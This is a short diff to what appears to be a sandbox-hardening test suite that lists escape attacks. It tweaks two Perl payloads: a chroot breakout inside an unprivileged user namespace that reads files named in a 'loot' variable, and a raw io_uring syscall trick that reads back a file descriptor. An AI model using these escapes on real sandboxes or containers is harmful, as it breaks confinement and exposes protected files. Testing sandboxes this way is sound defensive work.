@@ -83,7 +83,7 @@ export const escapeAttacks: readonly Attack[] = [
     payload: (scene) =>
       shell(
         scene,
-        `timeout 5 unshare -Ur /usr/bin/perl -e 'mkdir "c"; opendir(my $d, "."); chroot "c" or exit; for (1..60) { chdir ".." } chroot "."; for my $f (split /:/, $ENV{HOSTILE_LOOT}) { open(my $h, "<", $f) and print <$h>, "\\n" }' 2>/dev/null | canaries`,
+        `timeout 5 unshare -Ur /usr/bin/perl -e 'mkdir "c"; opendir(my $d, "."); chroot "c" or exit; for (1..60) { chdir ".." } chroot "."; for my $f (split /:/, $ENV{HOSTILE_LOOT}) { open(my $h, "<", $f) or next; print <$h>, "\\n" }' 2>/dev/null | canaries`,
       ),
   },
   {
@@ -176,7 +176,7 @@ export const escapeAttacks: readonly Attack[] = [
         my $put = sub { sysseek($mem, $_[0], 0); syswrite($mem, $_[1]) }; my $get = sub { sysseek($mem, $_[0], 0); sysread($mem, my $b, $_[1]); $b };
         $put->($sqes, $sqe); $put->($sq + $array, pack("L", 0)); $put->($sq + $tail, pack("L", 1));
         syscall(426, $ring, 1, 1, 1, 0, 0); my ($user, $res) = unpack("Ql", $get->($sq + $cqes, 16)); print "result $res\\n";
-        if ($res > 2) { open(my $f, "<&=", $res) and print <$f> }
+        if ($res > 2) { open(my $f, "<&=", $res) or exit; print <$f> }
       `),
   },
   {
